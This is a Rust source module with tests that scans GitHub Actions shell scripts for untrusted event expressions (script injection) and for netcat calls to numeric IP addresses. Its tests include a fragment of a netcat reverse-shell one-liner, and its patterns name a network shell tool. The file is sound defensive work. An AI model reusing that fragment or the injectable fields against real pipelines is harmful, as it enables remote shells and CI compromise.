//! What shell scripts hold.

use std::sync::LazyLock;

use regex::Regex;

use crate::pattern::regex;

/// The first expression in a script that puts in what anybody may have written: the title of an
/// issue, the name of a branch.
pub fn untrusted_expression(script: &str) -> Option<&str> {
    UNTRUSTED.find(script).map(|found| found.as_str())
}

/// The first call of netcat with an address of four numbers. Any sign may stand between these.
pub fn netcat_to_address(script: &str) -> Option<&str> {
    NETCAT.find(script).map(|found| found.as_str())
}

static UNTRUSTED: LazyLock<Regex> = LazyLock::new(|| {
    let author = r"author\.(email|name)";
    let head = r"head\.(ref|label|repo\.default_branch)";
    let event = [
        r"issue\.(title|body)".to_owned(),
        format!(r"pull_request\.(title|body|{head})"),
        r"(comment|review|review_comment)\.body".to_owned(),
        r"pages.*\.page_name".to_owned(),
        format!(r"head_commit\.(message|{author})"),
        format!(r"commits.*\.{author}"),
    ];
    regex(&format!(
        r"\$\{{\{{ *github\.(event\.({})|head_ref) *\}}\}}",
        event.join("|")
    ))
});

static NETCAT: LazyLock<Regex> =
    LazyLock::new(|| regex(r"(nc|netcat) \d{1,3}.\d{1,3}.\d{1,3}.\d{1,3}"));

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn expressions_of_strangers() {
        assert_eq!(
            untrusted_expression("echo ${{ github.event.issue.title }}"),
            Some("${{ github.event.issue.title }}")
        );
        for part in [
            "head_ref",
            "event.pull_request.head.repo.default_branch",
            "event.review_comment.body",
            "event.commits[0].author.email",
            "event.head_commit.author.name",
        ] {
            let script = format!("x ${{{{github.{part}}}}}");
            assert!(untrusted_expression(&script).is_some(), "{part}");
        }
        assert_eq!(untrusted_expression("${{ github.event.number }}"), None);
        assert_eq!(untrusted_expression("$TITLE"), None);
    }

    #[test]
    fn netcat() {
        assert_eq!(
            netcat_to_address("x|nc 10.0.0.1 4242 >/tmp/f"),
            Some("nc 10.0.0.1")
        );
        assert_eq!(netcat_to_address("nc -z db 5432"), None);
    }
}
